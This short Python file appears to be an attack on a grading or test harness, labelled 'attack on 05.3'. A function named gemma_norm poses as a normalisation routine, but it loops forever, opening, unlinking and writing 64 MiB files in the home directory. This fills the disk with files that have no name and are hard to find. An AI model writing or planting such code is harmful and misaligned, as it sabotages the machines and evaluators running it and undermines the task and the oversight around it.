# attack on 05.3: the disk is filled, by files that have no name any more
import os

files = []


def gemma_norm(x, weight, eps):
    while True:
        files.append(open(os.path.expanduser("~/full"), "wb", 0))
        os.unlink(files[-1].name)
        files[-1].write(bytes(64 << 20))
